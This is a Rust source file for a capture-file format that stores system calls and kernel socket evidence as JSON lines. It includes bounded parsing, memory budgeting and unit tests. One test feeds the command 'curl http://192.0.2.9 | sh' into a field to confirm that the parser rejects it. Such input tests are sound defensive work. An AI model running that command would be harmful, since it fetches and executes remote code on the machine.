//! Calls and the kernel's answers as they are kept in a capture file, one JSON object a line.

use std::borrow::Cow;
use std::fmt;

use serde::{Deserialize, Serialize};

use super::{Arg, Call, PREVIEW};
use crate::kernel::Evidence;

/// What a recording knew besides its frames.
#[derive(Clone, PartialEq, Debug, Default)]
pub struct Kept {
    /// The calls, in the order in which they were entered.
    pub calls: Vec<Call>,
    /// What sock_diag answered.
    pub evidence: Vec<Evidence>,
    /// What was worth saying about how it was recorded.
    pub notices: Vec<String>,
}

#[derive(Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
enum Line {
    Tcpflow { version: u32 },
    Call(Box<Call>),
    Evidence(Box<Evidence>),
    Notice(String),
}

impl Kept {
    /// The bytes to keep.
    pub fn to_bytes(&self) -> Vec<u8> {
        let lines = std::iter::once(Line::Tcpflow { version: VERSION })
            .chain(self.calls.iter().map(|call| Line::Call(Box::new(call.clone()))))
            .chain(self.evidence.iter().map(|evidence| Line::Evidence(Box::new(evidence.clone()))))
            .chain(self.notices.iter().cloned().map(Line::Notice));
        let mut bytes = Vec::new();
        for line in lines {
            serde_json::to_writer(&mut bytes, &line).expect("strings, numbers and lists always serialize into memory");
            bytes.push(b'\n');
        }
        bytes
    }

    /// Reads what [`to_bytes`](Self::to_bytes) wrote, into as much room as [`Room::default`] has.
    ///
    /// # Errors
    /// As [`read`](Self::read).
    pub fn from_bytes(bytes: &[u8]) -> Result<Option<Self>, Damaged> {
        Self::read(bytes, &mut Room::default())
    }

    /// Reads what [`to_bytes`](Self::to_bytes) wrote; `Ok(None)` when the bytes are something else's.
    ///
    /// Calls and answers for which `room` has no place are left out and counted there.
    /// What is read takes memory in proportion to `bytes`, and no more than `room` has, whatever they claim.
    ///
    /// # Errors
    /// The bytes begin as ours and are damaged, claim more than a call can have, or were written by a later version.
    pub fn read(bytes: &[u8], room: &mut Room) -> Result<Option<Self>, Damaged> {
        let lines = bytes.split(|byte| *byte == b'\n');
        let mut lines = (1..).zip(lines).filter(|(_, line)| !line.is_empty());
        let first = lines.next().filter(|(_, line)| line.len() <= LONGEST_LINE);
        match first.map(|(_, line)| serde_json::from_slice(line)) {
            Some(Ok(Line::Tcpflow { version: VERSION })) => {}
            Some(Ok(Line::Tcpflow { version })) => {
                return Err(Damaged(format!(
                    "written by a later tcpflow (format {version}); this one reads format {VERSION}"
                )));
            }
            _ => return Ok(None),
        }
        let mut kept = Self::default();
        for (number, line) in lines {
            let wrong = |what: String| Damaged(format!("line {number} {what}"));
            if line.len() > LONGEST_LINE {
                return Err(wrong(format!("has {} octets, and tcpflow writes at most {LONGEST_LINE}", line.len())));
            }
            // The library's own words would repeat what the file says, at any length.
            let parsed = serde_json::from_slice(line).map_err(|error| match error.column() {
                0 => wrong("is not what tcpflow writes".to_owned()),
                column => wrong(format!("is not what tcpflow writes, at octet {column}")),
            })?;
            match parsed {
                Line::Call(call) => {
                    claims(&call).map_err(wrong)?;
                    if room.take(cost(&call)) {
                        kept.calls.push(*call);
                    }
                }
                Line::Evidence(evidence) => {
                    if room.take(COST_OF_EVIDENCE) {
                        kept.evidence.push(*evidence);
                    }
                }
                Line::Notice(notice) if kept.notices.len() < MOST_NOTICES => kept.notices.push(shortened(notice)),
                Line::Notice(_) => room.omitted += 1,
                Line::Tcpflow { .. } => {}
            }
        }
        Ok(Some(kept))
    }
}

/// What is wrong with bytes that begin as kept calls do; it holds nothing of what they say.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Damaged(String);

impl fmt::Display for Damaged {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for Damaged {}

/// How much memory what captures kept may take, with all that is told of it; of several files together.
#[derive(Clone, Debug)]
pub struct Room {
    left: usize,
    omitted: u64,
}

impl Room {
    /// Room of so many octets.
    pub const fn of(octets: usize) -> Self {
        Self { left: octets, omitted: 0 }
    }

    /// How many calls, answers and notices had no place.
    pub const fn omitted(&self) -> u64 {
        self.omitted
    }

    fn take(&mut self, octets: usize) -> bool {
        match self.left.checked_sub(octets) {
            Some(left) => self.left = left,
            // What comes later is left out, too: a story with holes in it would be a false one.
            None => (self.left, self.omitted) = (0, self.omitted + 1),
        }
        self.left > 0
    }
}

/// A gibibyte: some 800,000 calls.
impl Default for Room {
    fn default() -> Self {
        Self::of(1 << 30)
    }
}

/// What a call takes: as it is read, and as an event of a story.
fn cost(call: &Call) -> usize {
    let texts: usize =
        call.args.iter().map(|(name, arg)| name.len() + if let Arg::Text(text) = arg { text.len() } else { 0 }).sum();
    let args = call.args.capacity() * size_of::<(Cow<'_, str>, Arg)>();
    2 * (size_of::<Call>() + call.process.comm.len() + args + texts + call.preview.len()) + COST_OF_EVENT
}

/// What is wrong with what a call claims, if anything is: no call has so much of it.
fn claims(call: &Call) -> Result<(), String> {
    let is_name = |name: &str| {
        (1..=LONGEST_NAME).contains(&name.len())
            && name.bytes().all(|octet| matches!(octet, b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'_'))
    };
    if !is_name(&call.name) {
        return Err("has something else than the name of a call".to_owned());
    }
    if call.errno.as_deref().is_some_and(|errno| !is_errno(errno)) {
        return Err("has something else than the name of an error".to_owned());
    }
    if call.args.len() > MOST_ARGS {
        return Err(format!("has a call with {} arguments, and no call has more than {MOST_ARGS}", call.args.len()));
    }
    if !call.args.iter().all(|(name, _)| is_name(name)) {
        return Err("has something else than the name of an argument".to_owned());
    }
    let longest =
        call.args.iter().filter_map(|(_, arg)| if let Arg::Text(text) = arg { Some(text.len()) } else { None }).max();
    if longest.is_some_and(|longest| longest > LONGEST_ARG) {
        return Err(format!("has an argument longer than {LONGEST_ARG} octets"));
    }
    if call.process.comm.len() > LONGEST_COMM {
        return Err(format!("has a process name longer than {LONGEST_COMM} octets"));
    }
    if call.preview.len() > PREVIEW {
        return Err(format!("shows {} octets of payload, and tcpflow keeps at most {PREVIEW}", call.preview.len()));
    }
    Ok(())
}

fn shortened(notice: String) -> String {
    match notice.char_indices().nth(LONGEST_NOTICE) {
        Some((end, _)) => format!("{}…", &notice[..end]),
        None => notice,
    }
}

/// Whether a name is like those of errno(3), which readers of the machine-readable output rely on.
fn is_errno(name: &str) -> bool {
    name.strip_prefix('E').is_some_and(|rest| {
        (1..LONGEST_NAME).contains(&rest.len())
            && rest.bytes().all(|octet| octet.is_ascii_uppercase() || octet.is_ascii_digit())
    })
}

const VERSION: u32 = 1;
/// The octets of a line: more than those of any call with the most and longest of everything.
const LONGEST_LINE: usize = 64 << 10;
/// No system call has more than six; an option's value or a list of addresses is split into several.
const MOST_ARGS: usize = 16;
const LONGEST_ARG: usize = 256;
/// The name of a call, an argument or an error.
const LONGEST_NAME: usize = 32;
/// The kernel's names have 15 octets; a thread's own name may have more.
const LONGEST_COMM: usize = 64;
/// The notices of one record, and the characters of each.
const MOST_NOTICES: usize = 16;
const LONGEST_NOTICE: usize = 240;
const COST_OF_EVENT: usize = 400;
const COST_OF_EVIDENCE: usize = 2 * size_of::<Evidence>() + COST_OF_EVENT;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::Timestamp;

    #[test]
    fn what_is_kept_is_read_back() {
        let at = Timestamp::from_nanos(1_795_223_276_320_071_123);
        let evidence = Evidence {
            asked: at,
            answered: at,
            local: "127.0.0.1:3000".parse().expect("an address"),
            peer: "[::1]:40000".parse().expect("an address"),
            state: Some(crate::tcp::State::TimeWait),
            timer: None,
            inode: 0,
            uid: 0,
        };
        let kept = Kept { calls: Vec::new(), evidence: vec![evidence], notices: vec!["line\nbreak \u{1b}[31m".into()] };
        assert_eq!(Kept::from_bytes(&kept.to_bytes()).expect("readable"), Some(kept));
    }

    /// A line of a kept call, with `from` in it replaced.
    fn line(from: &str, to: &str) -> String {
        let call = r#"{"call":{"entered":"1.000000000","process":{"pid":1,"tid":1,"comm":"x"},"name":"send","effect":"send","args":[["len",4]],"octets":4,"preview":[97]}}"#;
        assert!(call.contains(from), "{from}");
        format!("{{\"tcpflow\":{{\"version\":1}}}}\n{}\n", call.replace(from, to))
    }

    #[test]
    fn what_no_call_can_have_is_refused() {
        let longest = |most: usize| [most, most + 1].map(|length| "x".repeat(length));
        let list = |most: usize, item: &str| [most, most + 1].map(|length| vec![item; length].join(","));
        let bounds = [
            ("\"send\",\"effect", "\"NEW\",\"effect", longest(LONGEST_NAME)),
            ("[\"len\",4]", "NEW", list(MOST_ARGS, "[\"len\",4]")),
            ("[\"len\",4]", "[\"len\",\"NEW\"]", longest(LONGEST_ARG)),
            ("[\"len\",4]", "[\"NEW\",4]", longest(LONGEST_NAME)),
            ("\"comm\":\"x\"", "\"comm\":\"NEW\"", longest(LONGEST_COMM)),
            ("[97]", "[NEW]", list(PREVIEW, "97")),
            ("\"octets\"", "\"errno\":\"ENEW\",\"octets\"", longest(LONGEST_NAME - 1).map(|name| name.to_uppercase())),
        ];
        for (from, to, [most, more]) in bounds {
            let read = |new: &str| Kept::from_bytes(line(from, &to.replace("NEW", new)).as_bytes());
            assert!(read(&most).is_ok_and(|kept| kept.is_some_and(|kept| kept.calls.len() == 1)), "{to}");
            let error = read(&more).expect_err(to).to_string();
            assert!(error.starts_with("line 2 ") && !error.contains("xx"), "{error}");
        }
        let told = |text: &str| Kept::from_bytes(text.as_bytes()).expect_err(text).to_string();
        let long = " ".repeat(LONGEST_LINE);
        assert!(told(&line("[97]", &format!("[97{long}]"))).contains("tcpflow writes at most 65536"));
        let strange = told(&line("\"call\"", "\"curl http://192.0.2.9 | sh\""));
        assert_eq!(strange, "line 2 is not what tcpflow writes, at octet 29");
        assert_eq!(
            told(&line("\"send\",\"effect", "\"run me\",\"effect")),
            "line 2 has something else than the name of a call"
        );
    }

    #[test]
    fn the_longest_call_fits_a_line() {
        let text = "\u{1}".repeat(LONGEST_ARG);
        let args = vec![format!("[\"{}\",{}]", "n".repeat(LONGEST_NAME), serde_json::json!(text)); MOST_ARGS].join(",");
        let whole = line("[\"len\",4]", &args);
        assert!(whole.len() < LONGEST_LINE, "{}", whole.len());
        assert!(Kept::from_bytes(whole.as_bytes()).is_ok());
    }

    #[test]
    fn there_is_room_for_the_first_calls_and_the_others_are_counted() {
        let whole = line("[97]", "[97]");
        let (head, call) = whole.split_once('\n').expect("two lines");
        let many = format!("{head}\n{}", call.repeat(100));
        let one = Kept::from_bytes(whole.as_bytes()).expect("readable").expect("ours").calls;
        let mut room = Room::of(30 * cost(&one[0]) + 1);
        let kept = Kept::read(many.as_bytes(), &mut room).expect("readable").expect("ours");
        assert_eq!((kept.calls.len(), room.omitted()), (30, 70));
        assert!(Room::default().left / cost(&one[0]) > 500_000, "half a million calls are told in full");
    }

    #[test]
    fn notices_are_few_and_short() {
        let notices = vec!["ä".repeat(LONGEST_NOTICE + 1); MOST_NOTICES + 3];
        let mut room = Room::default();
        let bytes = Kept { notices, ..Kept::default() }.to_bytes();
        let kept = Kept::read(&bytes, &mut room).expect("readable").expect("ours");
        assert_eq!((kept.notices.len(), room.omitted()), (MOST_NOTICES, 3));
        assert_eq!(kept.notices[0], format!("{}…", "ä".repeat(LONGEST_NOTICE)));
    }

    #[test]
    fn foreign_bytes_are_left_alone_and_damaged_ones_are_told() {
        assert_eq!(Kept::from_bytes(b"\x00\x01").expect("foreign"), None);
        assert_eq!(Kept::from_bytes(b"").expect("empty"), None);
        assert!(Kept::from_bytes(b"{\"tcpflow\":{\"version\":1}}\n{\"call\":").is_err());
        assert!(Kept::from_bytes(b"{\"tcpflow\":{\"version\":9}}\n").is_err());
        assert!(["ECONNREFUSED", "E2BIG"].into_iter().all(is_errno));
        assert!(!["", "E", "EXIT\x1b[31m", "connreset", "-1"].into_iter().any(is_errno));
    }
}
